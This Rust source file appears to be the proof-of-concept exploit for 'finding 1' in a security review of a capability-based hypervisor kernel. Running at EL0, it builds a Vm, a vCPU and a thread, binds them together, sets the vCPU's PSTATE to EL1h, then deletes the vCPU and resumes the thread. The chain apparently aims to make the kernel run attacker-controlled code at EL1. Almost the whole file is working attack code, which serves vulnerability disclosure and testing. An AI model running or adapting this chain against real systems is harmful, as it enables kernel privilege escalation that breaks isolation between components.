//! The attack, at EL0.

use capvisor_ipc::abi::{KernelError, VcpuRegister};
use capvisor_rt::{CPtr, println, sys};
use hostile_common::abi::{CNODE_MIN_BITS, PSTATE_EL1H, kind};
use hostile_common::invoke::{self, Configure};
use hostile_common::scan::Inventory;

/// The thread's priority: above every service of the image (the attacker is the root, whose
/// maximum priority is 255), so that a kernel that resumes it runs it at once.
const THREAD_PRIORITY: u8 = 250;

fn say(what: &str, result: Result<(), KernelError>) {
    println!("vcpu: {what}: {result:?}");
}

/// The chain of finding 1; every step's result is printed and none stops it.
pub fn run() -> u64 {
    let mut caps = Inventory::scan();
    let (Some(vm), Some(vcpu), Some(thread), Some(cspace)) =
        (caps.slot(), caps.slot(), caps.slot(), caps.slot())
    else {
        println!("vcpu: no free slots");
        return 1;
    };
    say("retype a Vm", caps.retype_space(true, vm));
    say("retype a vCPU", caps.retype(kind::VCPU, 0, vcpu));
    say("retype a thread", caps.retype(kind::THREAD, 0, thread));
    say(
        "retype the thread's CNode",
        caps.retype(kind::CNODE, CNODE_MIN_BITS, cspace),
    );
    let mut config = Configure {
        pc: 0,
        sp: 0,
        ipc_buffer: 0,
        priority: THREAD_PRIORITY,
        max_priority: THREAD_PRIORITY,
        cspace,
        space: vm,
        fault: 0,
    };
    say(
        "configure the thread into the Vm",
        invoke::configure(thread, &config),
    );
    say(
        "bind the vCPU to the thread",
        invoke::bind_vcpu(thread, vcpu),
    );
    config.space = caps.space;
    say(
        "configure the vCPU's thread into its own AddressSpace",
        invoke::configure(thread, &config),
    );
    say(
        "write the vCPU's PSTATE = EL1h",
        invoke::vcpu_write(vcpu, VcpuRegister::Pstate.code(), PSTATE_EL1H),
    );
    say(
        "reset the vCPU",
        invoke::vcpu_write(vcpu, VcpuRegister::Reset.code(), 0),
    );
    say("delete the vCPU", sys::delete(CPtr::new(caps.cnode), vcpu));
    say("resume the thread", invoke::resume(thread));
    println!("vcpu: chain done");
    0
}
